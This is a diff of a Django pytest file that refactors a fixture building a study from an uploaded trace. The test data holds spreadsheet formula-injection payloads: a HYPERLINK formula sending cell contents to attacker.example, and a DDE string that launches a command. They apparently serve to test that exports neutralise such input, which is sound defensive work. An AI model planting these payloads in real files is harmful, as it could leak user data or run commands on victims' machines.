@@ -11,9 +11,9 @@ from django.contrib.auth.models import Group, User
 from django.test import Client
 
 from planner.capacity.models import InstanceType, Policy, Pool, ShareSpec
-from planner.celery import app as celery_app
 from planner.studies.launch import StudyLaunch, launch_study
 from planner.traces.models import Trace, read_upload
+from tests.fixtures import eager_worker
 
 pytestmark = pytest.mark.django_db
 FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
@@ -21,7 +21,7 @@ PLUS = "+cmd|' /C calc'!A0"
 
 
 @pytest.fixture
-def formula_study(django_capture_on_commit_callbacks):
+def formula_study(db):
     gpu, _ = InstanceType.objects.get_or_create(name="export-gpu", defaults={"gpus": 1, "hourly_price": 2.0})
     pool = Pool.objects.create(name="@pool")
     pool.set_capacity({gpu.name: 4})
@@ -38,13 +38,8 @@ def formula_study(django_capture_on_commit_callbacks):
         f'a,0,"{quoted}",export-gpu,3,3600\nb,60,"{PLUS}",export-gpu,1,600\n'
     )
     trace = Trace.store(read_upload(io.BytesIO(text.encode()), format="planner-csv"), name="=trace")
-    eager = celery_app.conf.task_always_eager
-    celery_app.conf.task_always_eager = True
-    try:
-        with django_capture_on_commit_callbacks(execute=True):
-            study = launch_study(StudyLaunch(name="=study", trace=trace, policies=[policy]))
-    finally:
-        celery_app.conf.task_always_eager = eager
+    with eager_worker():
+        study = launch_study(StudyLaunch(name="=study", trace=trace, policies=[policy]))
     assert study.runs.get().status == "succeeded", study.runs.get().error
     return study
 
